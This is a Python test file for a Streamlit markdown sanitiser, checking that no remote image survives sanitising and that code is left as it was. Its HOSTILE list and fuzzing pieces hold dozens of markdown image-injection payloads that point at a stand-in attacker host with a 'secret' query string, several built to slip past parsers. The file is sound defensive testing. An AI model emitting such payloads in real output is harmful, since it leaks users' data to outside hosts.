"""The markdown sanitiser (app/frontends/streamlit/safe_markdown.py) against hostile text: whatever the input, its
output holds no image that a browser would fetch (checked by parsing the output as CommonMark, with and without
Streamlit's `$` math, and without indented code), images become links, code is left as it was, and the output is the
input with backslashes inserted before `!` and nothing else changed."""

from __future__ import annotations

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from app.frontends.streamlit.safe_markdown import _dialects, safe_label, safe_markdown

URL = "http://attacker.example/?d=secret"


def fetched(markdown: str) -> list[str]:
    """The src of every image that some dialect's parse of `markdown` shows (data: URLs stay in the browser)."""
    found = []
    for parser in _dialects():
        stack = list(parser.parse(markdown))
        while stack:
            token = stack.pop()
            if token.type == "image" and not str(token.attrGet("src") or "").startswith("data:"):
                found.append(str(token.attrGet("src")))
            stack.extend(token.children or [])
    return found


def only_backslashes_added(original: str, safe: str) -> bool:
    """`safe` is `original` with backslashes inserted right before some `!`."""
    i = 0
    for j, char in enumerate(safe):
        if i < len(original) and char == original[i]:
            i += 1
        elif char != "\\" or safe[j + 1:j + 2] != "!":
            return False
    return i == len(original)


HOSTILE = [
    f"![x]({URL})",
    f"![]({URL})",
    f'![x]({URL} "title")',
    f"![x](<{URL}>)",
    f"text ![x][ref] more\n\n[ref]: {URL}",
    f"![x][]\n\n[x]: {URL}",
    f"![ref]\n\n[ref]: {URL}",
    f"[![badge]({URL})](https://example.com)",
    f"![outer ![inner]({URL})]({URL})",
    f"**![x]({URL})** _![y]({URL})_ ~~![z]({URL})~~",
    f"# ![heading]({URL})",
    f"Title\n![setext]({URL})\n=====",
    f"> quoted ![x]({URL})\n> > nested ![y]({URL})",
    f"- item ![x]({URL})\n  1. sub ![y]({URL})",
    f"| a | b |\n|---|---|\n| ![x]({URL}) | `c` |",
    f"| a | b |\n|---|---|\n| `x | ![i]({URL})` |",
    f"\\\\![even backslashes]({URL})",
    f"\\\\\\\\![four]({URL})",
    f"`code` ![after code]({URL}) `more`",
    f"$x$ ![after math]({URL})",
    f"$`$![between a dollar and a backtick]({URL})`",
    f"$$\n```\n$$\n![after display math]({URL})\n```",
    f"[^1]: a footnote\n\n    ![continued]({URL})",
    f"a <![CDATA[`]]>![x]({URL})`",
    f"a <span title=\"`\">![x]({URL})</span>`",
    f"![x](\n{URL}\n)",
    f"![multi\nline alt]({URL})",
    f"!\\[not an image]({URL}) ![is one]({URL})",
    f"\u00a0![nbsp before]({URL})",
    f"![x](data:image/png;base64,AAAA) ![y]({URL})",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_no_hostile_text_keeps_a_remote_image(text):
    assert fetched(text), "the case should contain an image to begin with"
    safe = safe_markdown(text)
    assert fetched(safe) == []
    assert only_backslashes_added(text, safe)
    assert safe_markdown(safe) == safe  # already safe text is left as it is


@pytest.mark.parametrize("text", [
    f":red[`]![after a directive]({URL})`",
    f":::note\n```\n:::\n![x]({URL})\n```",
])
def test_constructs_that_commonmark_does_not_know_get_every_opener_escaped(text):
    """Streamlit's directives may end a label or a container where CommonMark sees code: no exemption for code."""
    assert safe_markdown(text) == safe_label(text) != text


def test_an_image_becomes_a_link_with_the_same_text_and_url():
    parsed = _dialects()[0].parse(safe_markdown(f"See ![the chart]({URL})."))
    children = parsed[1].children or []
    assert [t.type for t in children] == ["text", "link_open", "text", "link_close", "text"]
    assert children[0].content == "See !" and children[1].attrGet("href") == URL and children[2].content == "the chart"


@pytest.mark.parametrize("text", [
    f"`![x]({URL})`",
    f"``a ` ![x]({URL})``",
    f"```markdown\n![x]({URL})\n```",
    f"~~~\n![x]({URL})\n~~~",
    "```js\nif (![1, 2].includes($x)) { return `${y}`; }\n```",
    f"- item\n\n  ```\n  ![x]({URL})\n  ```",
    f"> ```\n> ![x]({URL})\n> ```",
])
def test_code_is_left_as_it_was(text):
    assert safe_markdown(text) == text


def test_text_without_an_image_opener_is_returned_as_it_is():
    text = "**bold** [a link](https://example.com) <img src=x> $x$ `code`!"
    assert safe_markdown(text) is text


def test_streaming_escapes_every_opener_in_linear_time_and_the_final_draw_keeps_code():
    text = f"```\n![x]({URL})\n```\n![y]({URL})"
    assert safe_markdown(text, streaming=True) == text.replace("![", "\\![")
    assert safe_markdown(text) == text.replace("![y]", "\\![y]")


def test_labels_escape_every_opener_code_included():
    assert safe_label(f"report ![x]({URL})") == f"report \\![x]({URL})"
    assert safe_label(f"`![x]({URL})`") == f"`\\![x]({URL})`"
    assert fetched(safe_label(f"> ![x]({URL})")) == []
    assert safe_label("plain title") == "plain title"


# Pieces that build every construct that decides where an image starts or where code ends.
PIECES = ["![", "!", "[", "]", "](", ")", "(", "`", "``", "```", "~~~", "$", "$$", "\\", "\n", "\n\n", "    ",
          "> ", "- ", "1. ", "| ", "|---|", "<", ">", "<img src=", "![CDATA[", ":red[", ":::", "[^1]: ", "[r]: ",
          "[r]", "\"", "*", "_", "x", " ", "\t", URL, "data:image/png;base64,AA", f"![a]({URL})", "![r]",
          f"\n[r]: {URL}\n"]


@settings(max_examples=600, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.sampled_from(PIECES), max_size=40).map("".join))
def test_no_generated_text_keeps_a_remote_image(text):
    safe = safe_markdown(text)
    assert fetched(safe) == []
    assert only_backslashes_added(text, safe)
    assert fetched(safe_label(text)) == []
